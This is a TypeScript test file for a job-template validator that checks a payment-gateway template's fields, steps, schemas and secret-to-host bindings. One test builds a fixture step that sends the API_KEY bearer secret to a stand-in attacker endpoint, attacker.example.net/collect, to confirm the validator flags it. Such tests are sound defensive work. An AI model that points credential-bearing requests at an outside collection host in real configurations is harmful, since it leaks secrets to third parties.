import { SecretBindings } from '@base-shift/steps';
import type { TemplateDraft } from '../model/job-template';
import { templateRequiredSecrets, validateTemplateDocument } from './validate-template';

const seed: TemplateDraft = {
  templateId: 'payment_gateway_template',
  version: '1.2.0',
  steps: [
    { name: 'validate_payment_details', type: 'validation', config: { rules: ['check_card_number', 'check_expiry_date', 'check_cvv'] } },
    {
      name: 'process_payment',
      type: 'external_api_call',
      config: {
        api_endpoint: 'https://payment.gateway.com/process',
        method: 'POST',
        headers: { 'Content-Type': 'application/json', Authorization: 'Bearer ${API_KEY}' },
      },
    },
  ],
  inputSchema: {
    type: 'object',
    properties: { amount: { type: 'number' }, currency: { type: 'string' }, cardDetails: { type: 'object' } },
    required: ['amount', 'currency', 'cardDetails'],
  },
  outputSchema: { type: 'object', properties: { transactionId: { type: 'string' }, status: { type: 'string' } }, required: ['transactionId', 'status'] },
};

const withStep = (index: number, patch: object) => ({ ...seed, steps: seed.steps.map((step, i) => (i === index ? { ...step, ...patch } : step)) });

describe('validateTemplateDocument', () => {
  it("accepts the seed's payment_gateway_template and finds its secret", () => {
    expect(validateTemplateDocument(seed)).toEqual([]);
    expect(templateRequiredSecrets(seed.steps)).toEqual(['API_KEY']);
  });

  it('lists every problem at once, each with its pointer', () => {
    const problems = validateTemplateDocument({
      ...seed,
      templateId: 'bad id',
      version: 'v2',
      priority: 1.5,
      steps: [
        { name: '', type: 'validation', config: { rules: ['check_pin'] } },
        { ...seed.steps[1], config: { ...seed.steps[1].config, method: 'SEND' } },
        { name: 'process_payment', type: 'teleport', config: {} },
      ],
      inputSchema: { type: 'object', properties: { amount: { type: 'numbr' } } },
    });
    expect(problems).toEqual([
      { pointer: '/templateId', message: 'must be 1-128 characters of letters, digits, _ . - starting with a letter or digit' },
      { pointer: '/steps/0/name', message: 'must be a non-empty name of at most 100 letters, digits, _ . - (not starting with . or -)' },
      { pointer: '/priority', message: 'must be an integer' },
      { pointer: '/version', message: 'must be a semantic version such as 1.2.0 or 2.0.0-rc.1' },
      { pointer: '/steps/0/config/rules/0', message: 'must be one of check_card_number, check_expiry_date, check_cvv' },
      { pointer: '/steps/1/config/method', message: 'must be one of GET, POST, PUT, PATCH, DELETE' },
      { pointer: '/steps/2/type', message: 'must be one of validation, external_api_call, transform, delay' },
      { pointer: '/steps/2/name', message: 'must be unique: /steps/1 is also named "process_payment"' },
      {
        pointer: '/inputSchema/properties/amount/type',
        message: 'must be a JSON Schema type (string, number, integer, boolean, object, array, null) or a list of them',
      },
    ]);
  });

  it('requires at least one step and the document fields', () => {
    expect(validateTemplateDocument({ templateId: 't', steps: [] })).toEqual([
      { pointer: '/inputSchema', message: 'is required' },
      { pointer: '/outputSchema', message: 'is required' },
      { pointer: '/steps', message: 'must contain at least 1 item' },
    ]);
  });

  it('refuses unknown fields and malformed steps', () => {
    expect(validateTemplateDocument({ ...withStep(0, { config: 'rules' }), owner: 'me' })).toEqual([
      { pointer: '/owner', message: expect.stringMatching(/^is not allowed \(allowed: templateId, name, description, version, steps/) },
      { pointer: '/steps/0/config', message: 'must be an object' },
    ]);
  });

  it('refuses output schemas that would not compile', () => {
    expect(validateTemplateDocument({ ...seed, outputSchema: { $ref: '#/$defs/result' } })).toEqual([
      { pointer: '/outputSchema', message: expect.stringMatching(/^is not a usable JSON Schema 2020-12: can't resolve reference #\/\$defs\/result/) },
    ]);
  });

  it('bounds the run defaults', () => {
    expect(validateTemplateDocument({ ...seed, maxAttempts: 0, timeoutSeconds: 86_401, resourceClass: 'big pool', priority: 5 })).toEqual([
      { pointer: '/maxAttempts', message: 'must be >= 1' },
      { pointer: '/timeoutSeconds', message: 'must be <= 86400' },
      { pointer: '/resourceClass', message: "must be a pool name: 1-63 letters, digits, '-', '_' or '.', starting and ending with a letter or digit" },
    ]);
  });

  it("refuses a step sending a secret outside its pool's binding, at the step's URL", () => {
    const pools = new Map([
      ['default', new SecretBindings([{ name: 'API_KEY', allowedHosts: ['payment.gateway.com'] }])],
      ['other', new SecretBindings([{ name: 'API_KEY', allowedHosts: ['attacker.example.net'] }])],
    ]);
    const lookup = (pool: string) => pools.get(pool);
    expect(validateTemplateDocument(seed, lookup)).toEqual([]);
    const stolen = withStep(1, { config: { ...seed.steps[1].config, api_endpoint: 'https://attacker.example.net/collect' } });
    expect(validateTemplateDocument(stolen, lookup)).toEqual([
      {
        pointer: '/steps/1/config/api_endpoint',
        message: 'would send secret API_KEY to attacker.example.net, which pool "default" does not allow for it (allowed: payment.gateway.com)',
      },
    ]);
    // The pool is the template's resourceClass; a pool the control plane does not know binds nothing.
    expect(validateTemplateDocument({ ...stolen, resourceClass: 'other' }, lookup)).toEqual([]);
    expect(validateTemplateDocument({ ...seed, resourceClass: 'unknown' }, lookup)).toEqual([
      {
        pointer: '/steps/1/config/headers/Authorization',
        message: 'uses secret API_KEY, which pool "unknown" does not bind to any host (declare it under the pool\'s secrets with its allowedHosts)',
      },
    ]);
    // Without bindings (no pod management), only the executor checks.
    expect(validateTemplateDocument(stolen)).toEqual([]);
  });

  it('takes any name a pool can have as resourceClass', () => {
    for (const resourceClass of ['default', 'Large_Memory.v2', 'a'.repeat(63)]) expect(validateTemplateDocument({ ...seed, resourceClass })).toEqual([]);
    expect(validateTemplateDocument({ ...seed, resourceClass: '-gpu' })).toHaveLength(1);
  });
});
